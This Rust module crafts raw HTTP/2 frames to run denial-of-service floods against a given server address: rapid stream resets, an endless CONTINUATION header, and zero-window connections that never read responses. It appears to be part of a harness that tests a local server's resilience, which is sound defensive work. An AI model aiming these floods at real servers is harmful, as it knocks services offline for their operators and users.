//! HTTP/2 by hand, for floods that no client library sends.

use std::{io, net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};

/// Sends pieces until the connection ends.
pub async fn flood(address: SocketAddr, piece: fn(u32) -> Vec<u8>) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    let (mut reader, mut writer) = stream.into_split();
    let mut number = 0;
    let send = async {
        loop {
            let pieces: Vec<u8> = (number..number + 100).flat_map(piece).collect();
            number += 100;
            // Whoever does not take them for so long has stopped reading.
            timeout(Duration::from_secs(5), writer.write_all(&pieces)).await??;
        }
    };
    let mut ignored = [0; 4096];
    let read = async {
        while reader.read(&mut ignored).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        sent = send => sent,
        read = read => read,
    }
}

/// Asks as often as one connection may, takes no answer, and sends a PING now and then.
pub async fn closed_windows(address: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0])).await?;
    let requests: Vec<u8> = (0..100).flat_map(request).collect();
    stream.write_all(&requests).await?;
    let mut ignored = [0; 4096];
    loop {
        tokio::select! {
            read = stream.read(&mut ignored) => if read? == 0 { return Ok(()) },
            () = tokio::time::sleep(Duration::from_secs(1)) => {
                stream.write_all(&frame(PING, 0, 0, &[0; 8])).await?;
            }
        }
    }
}

/// A request, reset at once.
pub fn reset(number: u32) -> Vec<u8> {
    let reset = frame(RST_STREAM, 0, number * 2 + 1, &[0, 0, 0, CANCEL]);
    [request(number), reset].concat()
}

fn request(number: u32) -> Vec<u8> {
    // `:method GET` and `:scheme http` from the static table, then path and authority as they are.
    let mut block = vec![0x82, 0x86, 0x04, super::call::LIST.len() as u8];
    block.extend_from_slice(super::call::LIST.as_bytes());
    block.extend_from_slice(b"\x01\x09localhost");
    frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block)
}

/// A head that goes on and on.
pub fn continuation(number: u32) -> Vec<u8> {
    let kind = if number == 0 { HEADERS } else { CONTINUATION };
    frame(kind, 0, 1, &[0, 1, b'x', 1, b'y'])
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut frame = length.get(1..).unwrap().to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u8 = 8;
const INITIAL_WINDOW_SIZE: u8 = 4;
